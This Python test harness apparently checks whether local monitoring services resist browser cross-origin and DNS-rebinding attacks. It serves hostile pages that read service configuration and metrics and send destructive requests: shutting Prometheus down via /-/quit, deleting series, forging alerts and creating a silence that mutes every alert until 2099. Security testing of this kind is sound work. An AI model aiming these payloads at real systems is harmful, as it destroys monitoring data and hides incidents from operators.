"""A hostile web site on the host's own loopback: serves pages that try the services there, and notes what they got.

Runs on the host with its own Python: `attacker.py FOLDER PORT...`. The site is http://evil.test:8081. For each port it
also is http://rebind.test:PORT at 127.0.0.2. Once the page is served, that address passes every byte on to the service
at 127.0.0.1: to the browser it is the page's own origin, and the service gets what a rebound name would bring it. (A
browser keeps a name's address for a minute, which is too long for a test.)
"""

import contextlib
import http.server
import json
import pathlib
import socket
import sys
import threading

SITE = 8081
#: What a page tries to read, and to change, of each service; a change says what it sends.
READS = {
    9090: ["/metrics", "/api/v1/query?query=up", "/api/v1/status/config", "/api/v1/targets", "/"],
    9093: ["/metrics", "/api/v2/alerts", "/api/v2/silences", "/api/v2/status", "/"],
    9464: ["/metrics", "/"],
    9465: ["/healthz", "/"],
    12345: ["/metrics", "/api/v0/web/components", "/"],
}
ALERT = [{"labels": {"alertname": "forged-by-a-page"}}]
SILENCE = {
    "matchers": [{"name": "alertname", "value": ".+", "isRegex": True}],
    "startsAt": "2020-01-01T00:00:00Z",
    "endsAt": "2099-01-01T00:00:00Z",
    "createdBy": "forged-by-a-page",
    "comment": "x",
}
NOTE = {"status": "firing", "alerts": [{"status": "firing", "labels": {"alertname": "forged-by-a-page"}}]}
CHANGES = {
    9090: [
        ("/-/quit", ""),
        ("/-/reload", ""),
        ("/api/v1/write", "x"),
        ("/api/v1/admin/tsdb/delete_series?match[]=up", ""),
    ],
    9093: [("/-/reload", ""), ("/api/v2/silences", SILENCE), ("/api/v2/alerts", ALERT)],
    9464: [("/", "x"), ("/metrics", "x")],
    9465: [("/", NOTE), ("/alerts", NOTE), ("/api/v2/alerts", NOTE)],
    12345: [("/-/reload", "")],
}
PAGE = """<script>
const given = %s, found = [];
async function attempt(what, url, options) {
  // To its own origin without credentials: else the browser asks a person for the password, and waits for ever.
  const credentials = given.rebound ? "omit" : "same-origin";
  try {
    const answer = await fetch(url, {credentials, ...options});
    return {what, url, status: answer.status, type: answer.type, body: (await answer.text()).slice(0, 200)};
  } catch (error) { return {what, url, error: String(error)}; }
}
(async () => {
  for (let tries = 0; given.rebound && tries < 40; tries++) {
    if (!(await attempt("wait", given.reads[0], {})).error) break;
    await new Promise(done => setTimeout(done, 500));
  }
  for (const one of given.reads) found.push(await attempt("read", one, {}));
  const include = given.rebound ? {} : {credentials: "include"};
  for (const one of given.reads) found.push(await attempt("read again", one, include));
  for (const [url, body] of given.changes) {
    const text = typeof body == "string" ? body : JSON.stringify(body);
    const mode = given.rebound ? "same-origin" : "no-cors", headers = {"Content-Type": "application/json"};
    found.push(await attempt("post", url, {method: "POST", body: text, mode}));
    found.push(await attempt("post json", url, {method: "POST", body: text, headers}));
    found.push(await attempt("put", url, {method: "PUT", body: text}));
    found.push(await attempt("delete", url, {method: "DELETE"}));
  }
  await fetch("http://127.0.0.1:%d/report/%s", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""


def page(name, ports, base):
    given = {
        "rebound": not base,
        "reads": [(base % port if base else "") + path for port in ports for path in READS[port]],
        "changes": [((base % port if base else "") + path, body) for port in ports for path, body in CHANGES[port]],
    }
    return (PAGE % (json.dumps(given), SITE, name)).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def do_GET(self):
        # An answer would look like one of the service, which has not taken this address over yet.
        if self.path not in self.server.pages:
            self.close_connection = True
            return
        self.answer(self.server.pages[self.path])
        if self.server.hang_up:
            threading.Thread(target=become_the_service, args=(self.server,)).start()

    def do_POST(self):
        text = self.rfile.read(int(self.headers["Content-Length"]))
        staged = self.server.folder / f"{self.path.rpartition('/')[2]}.part"
        staged.write_bytes(text)
        staged.rename(staged.with_suffix(".json"))
        self.answer(b"")

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    """Knows its connections: a browser opens some before it needs them."""

    def __init__(self, *arguments):
        self.connections = []
        super().__init__(*arguments)

    def process_request(self, request, client_address):
        self.connections.append(request)
        super().process_request(request, client_address)


def become_the_service(server):
    address = server.server_address
    server.shutdown()
    server.server_close()
    for one in server.connections:
        end(one)
    with socket.create_server(address) as listener:
        while True:
            near, _ = listener.accept()
            far = socket.create_connection(("127.0.0.1", address[1]))
            for one, other in ((near, far), (far, near)):
                threading.Thread(target=pass_on, args=(one, other), daemon=True).start()


def pass_on(one, other):
    with contextlib.suppress(OSError):
        while data := one.recv(65536):
            other.sendall(data)
    end(other, socket.SHUT_WR)


def end(connection, how=socket.SHUT_RDWR):
    with contextlib.suppress(OSError):
        connection.shutdown(how)


def serve(address, pages, folder, hang_up):
    server = Server(address, Handler)
    server.pages, server.folder, server.hang_up = pages, folder, hang_up
    threading.Thread(target=server.serve_forever).start()


def main():
    folder, ports = pathlib.Path(sys.argv[1]), [int(port) for port in sys.argv[2:]]
    site = {
        "/other.html": page("other", ports, "http://127.0.0.1:%d"),
        "/local.html": page("local", ports, "http://localhost:%d"),
    }
    serve(("127.0.0.1", SITE), site, folder, hang_up=False)
    for port in ports:
        serve(("127.0.0.2", port), {"/page.html": page(f"rebound-{port}", [port], "")}, folder, hang_up=True)
    (folder / "ready").touch()


if __name__ == "__main__":
    main()
